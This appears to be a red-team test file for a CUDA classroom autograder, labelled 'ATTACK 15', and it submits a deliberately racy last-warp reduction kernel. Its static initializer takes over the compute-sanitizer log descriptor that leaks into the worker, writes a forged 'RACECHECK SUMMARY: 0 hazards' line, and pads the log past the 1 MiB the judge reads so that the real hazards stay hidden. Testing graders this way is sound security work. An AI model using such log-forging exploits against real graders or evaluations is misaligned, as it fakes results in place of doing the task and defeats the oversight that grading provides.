// ATTACK 15 (classroom/tests/attacks/review6/README.md): the sanitizer's log is written by
// the student's worker, through a descriptor the sanitizer hands it.
//
// The work is the kit's "racy" fixture (attack 04's kernel under its own names): reduce4 with
// the pre-Volta last warp (volatile, no __syncwarp()), exact sums on the H100; racecheck
// reports its hazards as warnings ("RACECHECK SUMMARY: 101 hazards displayed (0 errors, 756
// warnings)", docs/results/grading/gradescope), which leave compute-sanitizer's exit status
// at 0, so judge.cu decides from the log's summary line. Deserved: 90 (racecheck 0).
//
// compute-sanitizer opens its --log-file with open(path, O_WRONLY|O_CREAT|O_TRUNC) and no
// O_CLOEXEC, before it starts its target; the judge's `--exec-as` step drops to the
// student's user and execs the worker without closing anything. So the worker, running as
// the student, holds descriptor 4 (0-2 the worker's log and /dev/null, 3 the judge's
// socket, 4 the sanitizer's log: host run in tools/, compute-sanitizer 2025.2 and 13.5 from
// PyPI) on root's 0600 file. judge.cu reads only the log's first 1 MiB (read_through's
// default) and takes the last "RACECHECK SUMMARY:" line it finds there.
//
// The initializer below writes a summary with no hazards and 1.06 MiB of blanks into
// descriptor 4 before main: everything the sanitizer writes later (its hazards, its real
// summary) lies past what the judge reads. Only allowed names and symbols (stderr, fputs,
// fwrite); glibc's FILE has its descriptor in a public field. In every other process
// of the grading (the tree's tests, the correctness and timing workers) descriptor 4 is not
// open and the writes fail, changing nothing.

#include <cstdio>

#include "stage.h"

namespace {

int forge_sanitizer_log() {
    const int own = stderr->_fileno;
    stderr->_fileno = 4;  // the sanitizer's --log-file, inherited
    if (std::fputs("========= RACECHECK SUMMARY: 0 hazards displayed (0 errors, 0 warnings)\n", stderr) >= 0) {
        static char pad[4096];
        for (char& c : pad) c = ' ';
        pad[sizeof pad - 1] = '\n';
        for (int i = 0; i < 272; ++i) std::fwrite(pad, 1, sizeof pad, stderr);  // past the judge's 1 MiB
    }
    stderr->_fileno = own;
    return 0;
}
const int forged = forge_sanitizer_log();

template <typename T>
__device__ T tree_sum(T* shared, T sum, unsigned tid, unsigned block) {
    for (unsigned s = block / 2; s > 32; s >>= 1) {
        if (tid < s) shared[tid] = sum = sum + shared[tid + s];
        __syncthreads();
    }
    return sum;
}

// The classic pre-Volta last warp (the kit's legacy_last_warp.cuh, LegacyVolatile): racy.
template <typename T>
__device__ T last_warp(T* shared, unsigned tid) {
    volatile T* v = shared;
    v[tid] += v[tid + 32];
    v[tid] += v[tid + 16];
    v[tid] += v[tid + 8];
    v[tid] += v[tid + 4];
    v[tid] += v[tid + 2];
    v[tid] += v[tid + 1];
    return v[tid];
}

}  // namespace

template <typename T>
__global__ void unroll_last_warp_kernel(const T* in, std::size_t n, T* block_sums) {
    T* shared = dynamic_shared<T>();
    const unsigned tid = threadIdx.x;
    const std::size_t i = blockIdx.x * (2 * std::size_t(blockDim.x)) + tid;
    T sum = i < n ? in[i] : T(0);
    if (i + blockDim.x < n) sum += in[i + blockDim.x];
    shared[tid] = sum;
    __syncthreads();
    sum = tree_sum(shared, sum, tid, blockDim.x);
    if (tid < 32) {
        const T block_sum = last_warp(shared, tid);
        if (tid == 0) block_sums[blockIdx.x] = block_sum;
    }
}

constexpr unsigned kInputsPerThread = 2;

template <typename T>
void unroll_last_warp_sum(const T* in, std::size_t n, T* out, void* workspace, const RunConfig& config,
                          cudaStream_t stream) {
    const unsigned block = config.block;
    run_passes(in, n, out, workspace, kInputsPerThread * block, stream,
               [&](const T* src, std::size_t count, T* dst, unsigned blocks) {
                   unroll_last_warp_kernel<T><<<blocks, block, block * sizeof(T), stream>>>(src, count, dst);
                   CUDA_CHECK_LAUNCH();
               });
}

std::size_t unroll_last_warp_workspace(std::size_t n, std::size_t value_size, const RunConfig& config) {
    return passes_workspace_bytes(n, kInputsPerThread * config.block, value_size);
}

extern const Stage reduce4_stage = {
    .name = "reduce4",
    .kernel = "unroll_last_warp",
    .idea = "the last warp unrolled: no block-wide barriers once s <= 32",
    .min_block = 64,
    .max_block = 1024,
    .workspace_bytes = unroll_last_warp_workspace,
    .sum_int = unroll_last_warp_sum<int>,
    .sum_float = unroll_last_warp_sum<float>,
    .sum_double = unroll_last_warp_sum<double>,
};
